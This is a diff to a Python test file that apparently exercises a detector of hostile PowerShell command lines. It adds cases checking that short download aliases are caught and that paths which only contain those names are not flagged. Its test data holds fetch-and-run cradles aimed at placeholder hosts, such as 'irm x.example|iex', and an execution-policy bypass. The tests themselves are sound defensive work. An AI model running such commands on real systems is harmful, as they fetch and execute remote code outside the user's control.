@@ -234,3 +234,17 @@ def test_long_hostile_texts_come_to_an_end(piece: str) -> None:
 def test_words_complete_a_sentence() -> None:
     words = [trait.words for trait in judge("powershell", "-ep bypass -File C:\\Users\\Public\\a.ps1", HERE)]
     assert words == ["runs a file in a user's folder", "sets the script policy of PowerShell aside"]
+
+
+@pytest.mark.parametrize(
+    "line", ["iwr https://x.example/a", "iwr -useb x.example/a", "irm x.example|iex", "'http://x'|irm", '(irm \\"http://x\\")']
+)
+def test_short_names_of_downloading_commands(line: str) -> None:
+    assert "download" in strong_ids("powershell.exe", f"-c {line}")
+
+
+@pytest.mark.parametrize(
+    "command", ["C:\\Program Files\\IRM\\irm.exe", "C:\\Program Files\\IWR\\a.exe", "C:\\Program Files\\iex\\iex.exe"]
+)
+def test_short_names_in_paths_are_names(command: str) -> None:
+    assert not strong_ids(command, "/quiet")
